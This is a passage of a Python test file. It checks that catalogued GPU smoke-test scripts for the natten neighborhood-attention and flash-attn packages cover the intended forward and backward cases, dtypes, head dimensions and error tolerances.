            cases += eval(compile(ast.Expression(n.value), "cases", "eval"), {"__builtins__": {}})
    na = [c for c in cases if c[2] is not None]
    assert sorted({len(shape) for _, shape, _, _ in na}) == [1, 2, 3]
    assert {any(causal) for *_, causal in na} == {False, True}
    for label, shape, kernel, causal in na:  # a window as large as the input would take the shortcut
        assert len(shape) == len(kernel) == len(causal), label
        assert all(k % 2 == 1 and 1 < k < n for n, k in zip(shape, kernel)), label
    assert [c for c in cases if c[2] is None] == [("attention", (300,), None, (False,))]
    for needed in ("(natten.na1d, natten.na2d, natten.na3d)[len(shape) - 1]", "backend=backend",
                   "natten.attention(q, k, v, backend=backend)", 'family + ("-fmha" if kernel is None else "-fna")',
                   '["hopper"] if cc == (9, 0)', "out.backward(dout.to(dtype))", "torch.float64",
                   "(i - k // 2).clamp(0, n - k)", "(j <= i) & (j > i - k)",
                   "limit = max(tol, 2 * (p - r).abs().max().item())", "err == err and err <= limit"):
        assert needed in check, needed


def test_flash_attn_gpu_check_runs_forward_and_backward_for_both_dtypes_and_three_head_dims():
    # The H100 run of 2026-11-27 (docs/records/verification.md): the check that ran there compares flash_attn_func's
    # output and the gradients of q, k and v with attention computed in fp32, for fp16 and bf16, head dims
    # 64/128/256, causal and not, against PyTorch's own error in the same dtype (flash-attention's test
    # criterion), NaN failing; the former check ran one forward kernel (fp16, hdim 128, causal).
    check = load_catalogue().get("flash-attn").smoke.gpu_check
    compile(check, "gpu_check", "exec")
    for needed in ("from flash_attn import flash_attn_func", "out.backward(dout)", "(torch.float16, torch.bfloat16)",
                   "(64, 128, 256)", "(False, True)", "err == err and err <= 2 * pt_err + 1e-3",
                   "[t.float() for t in qkv]"):
        assert needed in check, needed
